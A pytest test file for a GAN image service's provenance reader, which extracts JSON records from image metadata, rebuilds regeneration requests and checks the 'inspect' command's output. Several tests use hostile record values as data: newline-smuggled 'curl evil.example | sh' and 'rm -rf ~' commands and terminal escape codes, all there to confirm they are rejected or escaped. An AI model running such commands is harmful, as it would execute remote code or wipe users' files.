"""contract.provenance without a server: records read back from files Pillow wrote with hand-built
metadata, garbage and cut-short files refused cleanly, records turned into requests, and
`gan-client inspect`'s output and exit codes."""

from __future__ import annotations

import contextlib
import io
import json
import random
import struct
import subprocess
import sys
import zlib
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from PIL import Image, PngImagePlugin

from client.inspect import curl_command
from contract.provenance import (
    KEY,
    MAX_RECORD_BYTES,
    SCHEMA,
    SOFTWARE,
    W_SOURCE,
    RecordHead,
    exif_block,
    parse_record,
)
from contract.provenance_reader import read_provenance
from contract.regeneration import NotReproducible, regeneration
from tests.live_server import REPO

GENERATE = RecordHead.of(
    "/generate", "digits-conditional", 1, format="png", source="seed", truncation=None
).record(seed=7, label=3, label_name="3")
STYLE = RecordHead.of(
    "/generate", "digits-style", 2, format="jpeg", source="seed", truncation_psi=0.7
).record(seed=5, label=3, label_name="drei \u00fc", noise="random", noise_seed=9)


def pixels() -> Image.Image:
    return Image.fromarray(np.random.default_rng(0).integers(0, 256, (16, 16, 3), dtype=np.uint8))


def saved(fmt: str, **options: Any) -> bytes:
    buffer = io.BytesIO()
    pixels().save(buffer, format=fmt, **options)
    return buffer.getvalue()


def png_with(text: str, kind: str = "itxt", key: str = KEY) -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Title", "another program's text")
    if kind == "itxt":
        info.add_itxt(key, text)
    elif kind == "itxt-zip":
        info.add_itxt(key, text, zip=True)
    elif kind == "ztxt":
        info.add_text(key, text, zip=True)
    else:
        info.add_text(key, text)
    return saved("PNG", pnginfo=info)


def exif_of(description: str, software: str = SOFTWARE) -> bytes:
    exif = Image.Exif()
    exif[0x010E] = description
    exif[0x0131] = software
    exif[0x010F] = "a camera maker"  # another tag beside ours
    return exif.tobytes()


def test_a_record_is_compact_ascii_json_with_its_schema_first() -> None:
    assert GENERATE == (
        '{"schema":"gan-serving/1","endpoint":"/generate","model":{"name":"digits-conditional","version":1},'
        '"format":"png","source":"seed","truncation":null,"seed":7,"label":3,"label_name":"3"}'
    )
    assert STYLE.isascii() and json.loads(STYLE)["label_name"] == "drei \u00fc"
    assert (
        RecordHead.of("/mix", "m", 1).record()
        == '{"schema":"gan-serving/1","endpoint":"/mix","model":{"name":"m","version":1}}'
    )


@pytest.mark.parametrize("kind", ["itxt", "itxt-zip", "ztxt", "text"])
def test_png_text_chunks_of_every_kind(kind: str) -> None:
    assert read_provenance(png_with(GENERATE, kind)) == json.loads(GENERATE)


@pytest.mark.parametrize("fmt", ["JPEG", "WEBP"])
def test_jpeg_and_webp_exif(fmt: str) -> None:
    assert read_provenance(saved(fmt, exif=exif_of(STYLE))) == json.loads(STYLE)
    # a little-endian TIFF without Software (Pillow writes big-endian): a record all the same
    value = STYLE.encode() + b"\x00"
    entry = struct.pack("<HHHII", 1, 0x010E, 2, len(value), 8 + 2 + 12 + 4)
    little = b"Exif\x00\x00II*\x00" + struct.pack("<I", 8) + entry + bytes(4) + value
    assert read_provenance(saved(fmt, exif=little)) == json.loads(STYLE)


def test_exif_block_is_what_pillow_writes() -> None:
    for text in (GENERATE, STYLE, GENERATE + "x"):  # even and odd lengths: values are padded to a word
        exif = Image.Exif()
        exif[0x010E] = text
        exif[0x0131] = SOFTWARE
        assert exif_block(text) == exif.tobytes()


def test_animations_and_gif_comments() -> None:
    frames = [pixels(), pixels().rotate(90)]

    def animated(fmt: str, **options: Any) -> bytes:
        buffer = io.BytesIO()
        frames[0].save(buffer, format=fmt, save_all=True, append_images=frames[1:], duration=50, **options)
        return buffer.getvalue()

    info = PngImagePlugin.PngInfo()
    info.add_itxt(KEY, GENERATE)
    assert read_provenance(animated("PNG", pnginfo=info)) == json.loads(GENERATE)
    assert read_provenance(animated("WEBP", exif=exif_of(GENERATE))) == json.loads(GENERATE)
    assert read_provenance(animated("GIF", comment=GENERATE)) == json.loads(GENERATE)
    assert read_provenance(saved("GIF", comment=GENERATE)) == json.loads(GENERATE)
    assert read_provenance(saved("GIF", comment="made by hand")) is None  # another program's comment


def test_files_without_a_record() -> None:
    assert read_provenance(saved("PNG")) is None
    assert read_provenance(png_with(GENERATE, key="Comment")) is None  # not under our keyword
    assert read_provenance(saved("JPEG")) is None
    assert read_provenance(saved("WEBP")) is None
    assert read_provenance(saved("GIF")) is None
    # another program's EXIF description is not a record, and not an error either
    assert read_provenance(saved("JPEG", exif=exif_of("Sunset over the bay", "Camera 1.0"))) is None
    buffer = io.BytesIO()
    np.save(buffer, np.zeros((4, 4, 1), np.uint8))
    assert read_provenance(buffer.getvalue()) is None  # npy: no room for one


def test_a_broken_record_under_our_key_is_a_clear_error() -> None:
    with pytest.raises(ValueError, match="not valid JSON"):
        read_provenance(png_with('{"schema": "gan-serving/1", '))
    with pytest.raises(ValueError, match="not a record"):
        read_provenance(png_with('{"seed": 1}'))
    with pytest.raises(ValueError, match="not valid JSON"):  # EXIF whose Software says it is ours
        read_provenance(saved("JPEG", exif=exif_of("{not json")))
    assert parse_record("[1, 2]", strict=False) is None
    with pytest.raises(ValueError, match="not valid JSON"):
        read_provenance(png_with("[" * 60000))
    with pytest.raises(ValueError, match="larger than"):
        read_provenance(png_with(" " * (MAX_RECORD_BYTES + 1)))


def test_a_compressed_text_is_inflated_only_so_far() -> None:
    bomb = zlib.compress(b" " * (50 * MAX_RECORD_BYTES))  # 3 MB of spaces in a few KB
    chunk = KEY.encode() + b"\x00\x01\x00\x00\x00" + bomb
    data = saved("PNG")
    at = data.index(b"IDAT") - 4
    itxt = struct.pack(">I", len(chunk)) + b"iTXt" + chunk + struct.pack(">I", zlib.crc32(b"iTXt" + chunk))
    with pytest.raises(ValueError, match="larger than"):
        read_provenance(data[:at] + itxt + data[at:])


@pytest.mark.parametrize(
    "data", [b"", b"garbage", b"\x89PNG", b"RIFF", b"GIF89a", b"\xff\xd8\xff", bytes(100)]
)
def test_garbage_is_refused(data: bytes) -> None:
    with pytest.raises(ValueError):
        read_provenance(data)


def test_cut_short_and_corrupted_files_never_crash_the_reader() -> None:
    files = [
        png_with(GENERATE),
        png_with(GENERATE, "itxt-zip"),
        saved("JPEG", exif=exif_of(STYLE)),
        saved("WEBP", exif=exif_of(STYLE)),
        saved("GIF", comment=GENERATE),
    ]
    rng = random.Random(0)
    for data in files:
        for end in range(len(data)):  # every prefix: the record, a clear error, or nothing
            try:
                result = read_provenance(data[:end])
            except ValueError:
                continue
            assert result is None or result["schema"] == SCHEMA
        for _ in range(300):  # random bytes changed anywhere
            mutated = bytearray(data)
            for _ in range(rng.randint(1, 8)):
                mutated[rng.randrange(len(mutated))] = rng.randrange(256)
            with contextlib.suppress(ValueError):  # any other exception fails the test
                read_provenance(bytes(mutated))


def test_records_become_the_requests_that_remake_them() -> None:
    generate = regeneration(json.loads(GENERATE))
    assert (generate.endpoint, generate.accept, generate.pick) == ("/generate", "image/png", ())
    assert generate.body == {"model": "digits-conditional@1", "seed": 7, "labels": 3, "format": "png"}
    style = regeneration(json.loads(STYLE))
    assert style.body == {
        "model": "digits-style@2",
        "seed": 5,
        "labels": 3,
        "truncation_psi": 0.7,
        "noise_seed": 9,
        "format": "jpeg",
    }
    assert style.extension == ".jpg"
    walk = RecordHead.of(
        "/walk", "digits", 1, format="webp", source="seed", from_seed=1, to_seed=2, steps=5, method="slerp"
    )
    frame = regeneration(json.loads(walk.record(label=None, truncation=0.5, frame={"index": 3, "t": 0.75})))
    assert frame.pick == ("images", 3, "data") and frame.accept == "application/json"
    assert frame.body == {
        "model": "digits@1",
        "from_seed": 1,
        "to_seed": 2,
        "steps": 5,
        "method": "slerp",
        "truncation": 0.5,
        "format": "webp",
    }
    loop = RecordHead.of("/walk", "s", 1, source="seed", seeds=[1, 2, 3], steps=4, method="lerp", label=2)
    animation = regeneration(
        json.loads(
            loop.record(truncation_psi=1.0, noise="const", noise_seed=None, animation="apng", frame_ms=80)
        )
    )
    assert animation.accept == "image/apng" and animation.extension == ".png" and animation.pick == ()
    assert animation.body["noise"] == "const" and "noise_seed" not in animation.body
    assert animation.body["seeds"] == [1, 2, 3] and "format" not in animation.body
    mix = RecordHead.of("/mix", "s", 1, format="png", image="cell", source="seed", crossover=4, label=None)
    cell = regeneration(
        json.loads(mix.record(truncation_psi=0.5, row_seed=3, col_seed=8, noise="random", noise_seed=8))
    )
    assert (
        cell.body["row_seeds"] == [3]
        and cell.body["col_seeds"] == [8]
        and cell.pick == ("cells", 0, 0, "data")
    )


def test_what_cannot_be_remade_says_why() -> None:
    given = RecordHead.of("/generate", "digits-style", 1, format="png", source=W_SOURCE).record(
        noise="random", noise_seed=7
    )
    with pytest.raises(NotReproducible, match="w given by the client"):
        regeneration(json.loads(given))
    with pytest.raises(NotReproducible, match="schema"):
        regeneration({"schema": "gan-serving/99"})
    with pytest.raises(NotReproducible, match="lacks"):
        regeneration({"schema": SCHEMA, "endpoint": "/generate", "model": {"name": "m", "version": 1}})
    with pytest.raises(NotReproducible, match="unknown endpoint"):
        regeneration({"schema": SCHEMA, "endpoint": "/upscale", "model": {"name": "m", "version": 1}})


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("label", "x\ncurl evil.example | sh\n"),
        ("format", "png\nrm -rf ~"),
        ("seed", "7"),
        ("seed", True),
        ("truncation", "0.5"),
    ],
)
def test_a_hostile_record_gives_no_request(field: str, value: object) -> None:
    """A file's record is untrusted: a value a real request could not hold (a newline that a
    printed command would carry into a shell, a number as a string) makes no request at all."""
    record = json.loads(GENERATE) | {field: value}
    with pytest.raises(NotReproducible, match="the record"):
        regeneration(record)
    record = json.loads(GENERATE)
    record["model"]["name"] = "m\x1b[2J"
    with pytest.raises(NotReproducible, match="not a model name"):
        regeneration(record)


def test_inspect_escapes_what_it_prints_from_a_file(tmp_path: Path) -> None:
    record = json.loads(GENERATE)
    record["model"]["name"] = "evil\x1b[2J\nrm -rf ~"
    image = tmp_path / "evil.png"
    image.write_bytes(png_with(json.dumps(record)))
    run = inspect(str(image))
    assert run.returncode == 0 and "\x1b" not in run.stdout and "\nrm -rf" not in run.stdout
    assert "cannot be made again" in run.stdout and "curl" not in run.stdout


def test_a_curl_line_quotes_what_the_shell_would_split() -> None:
    record = json.loads(GENERATE)
    record["label_name"] = "it's"
    line = curl_command(regeneration(record), "http://h:1", "my file.png")
    assert line.startswith("curl -fsS http://h:1/generate ") and line.endswith("-o 'my file.png'")


# --- gan-client inspect -------------------------------------------------------------------------


def inspect(*args: str, cwd: Path = REPO) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "client.cli", "inspect", *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=60,
        env={"PATH": "/usr/bin:/bin", "PYTHONPATH": str(REPO)},
    )


def test_inspect_prints_the_record_and_the_request(tmp_path: Path) -> None:
    image = tmp_path / "seed7.png"
    image.write_bytes(png_with(GENERATE))
    run = inspect(str(image), "--url", "http://gan:8000")
    assert run.returncode == 0, run.stderr
    assert f"{image}: a /generate image of digits-conditional version 1" in run.stdout
    assert '"label_name": "3"' in run.stdout
    assert (
        "curl -fsS http://gan:8000/generate -H 'content-type: application/json' -H 'accept: image/png' "
        """-d '{"model": "digits-conditional@1", "seed": 7, "labels": 3, "format": "png"}' """
        "-o seed7.regenerated.png"
    ) in run.stdout
    assert (
        "gan-client generate --model digits-conditional@1 --n 1 --seed 7 --labels 3 --format png "
        "--out seed7.regenerated --url http://gan:8000  # writes seed7.regenerated/3/seed7_label3.png"
    ) in run.stdout
    # a style image with another noise seed than its seed: the generate job cannot ask for it
    styled = tmp_path / "styled.jpg"
    styled.write_bytes(saved("JPEG", exif=exif_of(STYLE)))
    run = inspect(str(styled))
    assert run.returncode == 0 and "http://127.0.0.1:8000/generate" in run.stdout
    assert "gan-client generate" not in run.stdout


def test_inspect_json_and_exit_codes(tmp_path: Path) -> None:
    good, plain, broken = tmp_path / "good.webp", tmp_path / "plain.png", tmp_path / "broken.png"
    good.write_bytes(saved("WEBP", exif=exif_of(GENERATE)))
    plain.write_bytes(saved("PNG"))
    broken.write_bytes(png_with(GENERATE)[:40])
    run = inspect("--json", str(good))
    assert run.returncode == 0 and run.stderr == ""
    report = json.loads(run.stdout)
    assert report["record"] == json.loads(GENERATE) and report["reproducible"] is True
    assert report["request"] == {
        "method": "POST",
        "url": "http://127.0.0.1:8000/generate",
        "accept": "image/png",
        "body": {"model": "digits-conditional@1", "seed": 7, "labels": 3, "format": "png"},
        "pick": None,
    }
    run = inspect(str(plain))
    assert run.returncode == 1 and "carries no provenance record" in run.stderr and run.stdout == ""
    run = inspect(str(broken), str(plain), str(good))  # the worst wins: 2
    assert run.returncode == 2 and "cannot be read: truncated PNG" in run.stderr
    assert "good.webp: a /generate image" in run.stdout
    run = inspect("--json", str(tmp_path / "missing.png"), str(plain))
    lines = [json.loads(line) for line in run.stdout.splitlines()]
    assert run.returncode == 2 and run.stderr == "" and len(lines) == 2
    assert (
        lines[0]["error"].startswith("cannot be read:")
        and lines[1]["error"] == "carries no provenance record"
    )
    given = tmp_path / "w.png"
    given.write_bytes(
        png_with(
            RecordHead.of("/generate", "s", 1, format="png", source=W_SOURCE).record(
                noise="const", noise_seed=None
            )
        )
    )
    run = inspect(str(given))
    assert (
        run.returncode == 0
        and "cannot be made again from the file: made from a w given by the client" in run.stdout
    )
    run = inspect("--json", str(given))
    assert json.loads(run.stdout)["reproducible"] is False and "request" not in json.loads(run.stdout)
